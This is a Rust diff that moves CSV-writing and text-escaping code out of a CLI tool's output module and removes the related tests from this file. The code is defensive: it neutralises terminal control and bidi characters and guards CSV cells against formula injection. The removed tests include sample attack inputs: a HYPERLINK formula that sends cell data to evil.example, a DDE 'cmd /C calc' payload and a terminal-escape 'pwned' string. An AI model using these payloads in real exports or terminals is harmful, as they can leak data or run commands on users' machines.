@@ -3,14 +3,20 @@
 //! profile name, a message, an error Meta relays) passes through [`escape`]
 //! before it reaches a terminal or a spreadsheet; JSON keeps it exact.
 
-use std::borrow::Cow;
-use std::fmt::{self, Display, Write as _};
+use std::fmt::{self, Display};
 use std::io::{self, Write};
-use std::sync::atomic::{AtomicBool, Ordering};
 
 use clap::ValueEnum;
 use comfy_table::{ContentArrangement, LineStyle, Table, TableStyle};
 use serde::Serialize;
+
+mod csv;
+mod escape;
+
+pub use self::csv::{BOM, csv_records, set_csv_bom, unprotect_csv};
+pub use escape::{
+    Unsendable, escape, escape_text, find_unsendable, is_bidi_control, is_invisible, printable,
+};
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
 pub enum Format {
@@ -49,55 +55,6 @@ const TABLE_STYLE: TableStyle =
 pub trait Row: Serialize {
     const HEADERS: &'static [&'static str];
     fn cells(&self) -> Vec<String>;
-}
-
-/// Whether CSV starts with a byte-order mark (`--bom`): set once, from the
-/// command line, before any output; a process writes one kind of CSV.
-static CSV_BOM: AtomicBool = AtomicBool::new(false);
-
-/// The UTF-8 byte-order mark: without it, Excel reads a CSV file as the
-/// Windows code page and shows "Zoë" as "ZoÃ«".
-pub const BOM: &str = "\u{feff}";
-
-/// Makes every CSV written from now on start with a byte-order mark.
-pub fn set_csv_bom(on: bool) {
-    CSV_BOM.store(on, Ordering::Relaxed);
-}
-
-/// Writes CSV: a header row, then each record with every cell protected
-/// (see [`csv_cell`]). Every CSV mot writes goes through here.
-pub fn csv_records<R, C>(out: &mut dyn Write, headers: &[&str], records: R) -> io::Result<()>
-where
-    R: IntoIterator<Item = C>,
-    C: IntoIterator,
-    C::Item: AsRef<str>,
-{
-    csv_records_with(out, CSV_BOM.load(Ordering::Relaxed), headers, records)
-}
-
-fn csv_records_with<R, C>(
-    out: &mut dyn Write,
-    bom: bool,
-    headers: &[&str],
-    records: R,
-) -> io::Result<()>
-where
-    R: IntoIterator<Item = C>,
-    C: IntoIterator,
-    C::Item: AsRef<str>,
-{
-    if bom {
-        out.write_all(BOM.as_bytes())?;
-    }
-    let mut w = csv::Writer::from_writer(out);
-    w.write_record(headers)?;
-    for record in records {
-        for cell in record {
-            w.write_field(csv_cell(cell.as_ref()).as_bytes())?;
-        }
-        w.write_record(None::<&[u8]>)?;
-    }
-    w.flush()
 }
 
 /// Writes a list in the chosen format.
@@ -180,191 +137,6 @@ fn json<T: Serialize + ?Sized>(out: &mut dyn Write, value: &T) -> io::Result<()>
     writeln!(out)
 }
 
-// ---------------------------------------------------------------------------
-// Making text from outside safe to show
-// ---------------------------------------------------------------------------
-
-/// Characters that show nothing yet change how text around them looks: bidi
-/// embeddings, overrides, isolates and marks (which can make `gpj.exe` read
-/// `exe.jpg`), the soft hyphen, zero-width spaces and joiners, the line and
-/// paragraph separators, word joiner and invisible operators, the
-/// byte-order mark and the interlinear annotation marks (which hide the
-/// text between them). The one set: output escapes them, members' details
-/// never keep them, the screen reads through them, erasure looks past them.
-pub fn is_invisible(c: char) -> bool {
-    is_bidi_control(c)
-        || matches!(
-            c,
-            '\u{00ad}'
-                | '\u{180e}'
-                | '\u{200b}'..='\u{200d}'
-                | '\u{2028}'..='\u{2029}'
-                | '\u{2060}'..='\u{2064}'
-                | '\u{206a}'..='\u{206f}'
-                | '\u{feff}'
-                | '\u{fff9}'..='\u{fffb}'
-        )
-}
-
-/// The bidi controls: embeddings and overrides (U+202A–202E), isolates
-/// (U+2066–2069) and the marks (U+200E, U+200F, U+061C). They reorder the
-/// text around them, so that one word or option can be made to read as another.
-pub fn is_bidi_control(c: char) -> bool {
-    matches!(
-        c,
-        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
-    )
-}
-
-/// Text from Meta made safe for a terminal and a table cell: control and
-/// invisible characters (see [`is_invisible`]) replaced, and at most `max` characters.
-pub fn printable(text: &str, max: usize) -> String {
-    let mut out: String = text
-        .chars()
-        .take(max)
-        .map(|c| {
-            if c.is_control() || is_invisible(c) {
-                '\u{fffd}'
-            } else {
-                c
-            }
-        })
-        .collect();
-    if text.chars().nth(max).is_some() {
-        out.push('…');
-    }
-    out
-}
-
-/// A character that must not be sent to members, and where it is.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub struct Unsendable {
-    pub ch: char,
-    /// Line and column (both from 1, columns in characters); a one-line
-    /// value is shown as "character N".
-    pub line: usize,
-    pub column: usize,
-    multiline: bool,
-}
-
-impl fmt::Display for Unsendable {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let what = if is_bidi_control(self.ch) {
-            "a bidi control, which reorders the text around it"
-        } else {
-            "a control character"
-        };
-        write!(f, "U+{:04X} ({what}) at ", self.ch as u32)?;
-        if self.multiline {
-            write!(f, "line {}, column {}", self.line, self.column)
-        } else {
-            write!(f, "character {}", self.column)
-        }
-    }
-}
-
-/// The first character of `text` that must not go to members: a control
-/// character (C0, DEL, C1) or a bidi control. Line breaks (with the CR of
-/// Windows line ends) and tabs are allowed: they are paragraphs, or are
-/// folded into spaces. `multiline` text (a notice, a question) gives the
-/// place as line and column; a one-line value (an option) as a character.
-pub fn find_unsendable(text: &str, multiline: bool) -> Option<Unsendable> {
-    let (mut line, mut column) = (1, 0);
-    for ch in text.chars() {
-        column += 1;
-        let allowed = matches!(ch, '\n' | '\r' | '\t');
-        if (ch.is_control() && !allowed) || is_bidi_control(ch) {
-            return Some(Unsendable {
-                ch,
-                line,
-                column,
-                multiline,
-            });
-        }
-        if ch == '\n' {
-            line += 1;
-            column = 0;
-        }
-    }
-    None
-}
-
-/// Writes `c` so that it is seen rather than obeyed: control characters in
-/// Rust's `\u{1b}` style, invisible ones as `<U+202E>`.
-fn push_escaped(out: &mut String, c: char) {
-    match c {
-        '\n' => out.push_str("\\n"),
-        '\r' => out.push_str("\\r"),
-        '\t' => out.push_str("\\t"),
-        c if c.is_control() => {
-            let _ = write!(out, "\\u{{{:x}}}", c as u32);
-        }
-        c => {
-            let _ = write!(out, "<U+{:04X}>", c as u32);
-        }
-    }
-}
-
-fn escape_where(s: &str, keep_newlines: bool) -> Cow<'_, str> {
-    let bad = |c: char| (c.is_control() && !(keep_newlines && c == '\n')) || is_invisible(c);
-    let Some(first) = s.find(bad) else {
-        return Cow::Borrowed(s);
-    };
-    let mut out = String::with_capacity(s.len() + 16);
-    out.push_str(&s[..first]);
-    for c in s[first..].chars() {
-        if bad(c) {
-            push_escaped(&mut out, c);
-        } else {
-            out.push(c);
-        }
-    }
-    Cow::Owned(out)
-}
-
-/// One value (a table cell, a field) as it may be shown on a terminal:
-/// control, bidi and zero-width characters (newlines too) are escaped.
-pub fn escape(s: &str) -> Cow<'_, str> {
-    escape_where(s, false)
-}
-
-/// Text of several lines (a summary, a log line, an error): as [`escape`],
-/// but its line breaks stay line breaks.
-pub fn escape_text(s: &str) -> Cow<'_, str> {
-    escape_where(s, true)
-}
-
-/// What a spreadsheet would read as the start of a formula (OWASP's list).
-const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
-
-/// Whether a cell needs the protecting apostrophe: it starts a formula once
-/// any apostrophes in front are dropped. Counting those apostrophes in makes
-/// protection reversible: a name that really is `'=x` is written `''=x`.
-fn needs_protection(cell: &str) -> bool {
-    cell.trim_start_matches('\'').starts_with(FORMULA_START)
-}
-
-/// A CSV cell as written: escaped like text (its line breaks stay, quoted),
-/// and with a leading `'` when a spreadsheet would otherwise run it as a
-/// formula. [`unprotect_csv`] undoes exactly that apostrophe.
-fn csv_cell(s: &str) -> Cow<'_, str> {
-    let text = escape_text(s);
-    if needs_protection(&text) {
-        Cow::Owned(format!("'{text}"))
-    } else {
-        text
-    }
-}
-
-/// A cell read back from a CSV: the apostrophe [`csv_cell`] added is dropped
-/// (and only that one), so an export re-imports to the same values.
-pub fn unprotect_csv(cell: &str) -> &str {
-    match cell.strip_prefix('\'') {
-        Some(rest) if needs_protection(rest) => rest,
-        _ => cell,
-    }
-}
-
 /// Writes one line to stderr, escaped: use [`log_line!`](crate::log_line).
 pub fn log(args: fmt::Arguments<'_>) {
     let line = args.to_string();
@@ -384,50 +156,6 @@ macro_rules! log_line {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn text_from_meta_is_made_printable() {
-        assert_eq!(
-            printable("a\u{1b}[31mb\u{202e}c", 50),
-            "a\u{fffd}[31mb\u{fffd}c"
-        );
-        assert_eq!(printable("abcdef", 3), "abc…");
-    }
-
-    #[test]
-    fn unsendable_characters_are_found_with_their_place() {
-        assert_eq!(find_unsendable("Line one\r\n\tTwo\n", true), None);
-        assert_eq!(
-            find_unsendable("Zoë 👩‍⚕️ café", false),
-            None,
-            "a ZWJ emoji is fine"
-        );
-        let at = |t: &str, m| find_unsendable(t, m).unwrap().to_string();
-        assert_eq!(
-            at("ab\ncd\u{202e}", true),
-            "U+202E (a bidi control, which reorders the text around it) at line 2, column 3"
-        );
-        assert_eq!(
-            at("Yes\u{7}", false),
-            "U+0007 (a control character) at character 4"
-        );
-        for c in [
-            '\u{0}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9f}', '\u{61c}', '\u{200e}', '\u{2069}',
-        ] {
-            assert_eq!(find_unsendable(&format!("x{c}"), false).unwrap().ch, c);
-        }
-    }
-
-    #[test]
-    fn a_bom_starts_the_csv_only_when_asked() {
-        let rows = [["Zoë"]];
-        let mut with = Vec::new();
-        csv_records_with(&mut with, true, &["name"], rows).unwrap();
-        assert_eq!(with, "\u{feff}name\nZoë\n".as_bytes());
-        let mut without = Vec::new();
-        csv_records_with(&mut without, false, &["name"], rows).unwrap();
-        assert_eq!(without, "name\nZoë\n".as_bytes());
-    }
 
     const HOSTILE: &str = "\u{1b}[2J\u{1b}[1;1H\u{1b}[32mALL CLEAR\u{1b}]0;pwned\u{7}";
 
@@ -546,47 +274,6 @@ mod tests {
         assert!(shows_nothing_hidden(&out), "{out:?}");
         assert_eq!(out.lines().count(), 2);
         assert!(out.ends_with("two<U+202E>\n"));
-    }
-
-    #[test]
-    fn plain_text_is_borrowed_unchanged() {
-        let s = "Asha Patel, Riverside Pharmacy — Leeds 💊 أحمد";
-        assert!(matches!(escape(s), Cow::Borrowed(x) if x == s));
-    }
-
-    #[test]
-    fn csv_formula_cells_get_an_apostrophe_that_import_removes() {
-        let cases = [
-            (
-                "=HYPERLINK(\"http://evil.example/?x=\"&C2,\"Click me\")",
-                true,
-            ),
-            ("+cmd|' /C calc'!A0", true),
-            ("@SUM(1+1)", true),
-            ("-2+3", true),
-            ("=1+1", true),
-            ("+447700900001", true),
-            ("'=already quoted", true),
-            ("''+x", true),
-            ("Asha Patel", false),
-            ("O'Brien", false),
-            ("'quoted'", false),
-            ("", false),
-        ];
-        for (value, protected) in cases {
-            let written = csv_cell(value);
-            assert_eq!(
-                written.starts_with('\'') && written != value,
-                protected,
-                "{value}"
-            );
-            assert!(!written.starts_with(FORMULA_START), "{value}");
-            assert_eq!(unprotect_csv(&written), value, "round trip of {value}");
-        }
-        // Tab and CR cannot start a written cell: they are escaped first.
-        assert_eq!(csv_cell("\t=1"), "\\t=1");
-        assert_eq!(unprotect_csv("'\t=1"), "\t=1");
-        assert_eq!(unprotect_csv("'\r"), "\r");
     }
 
     #[test]
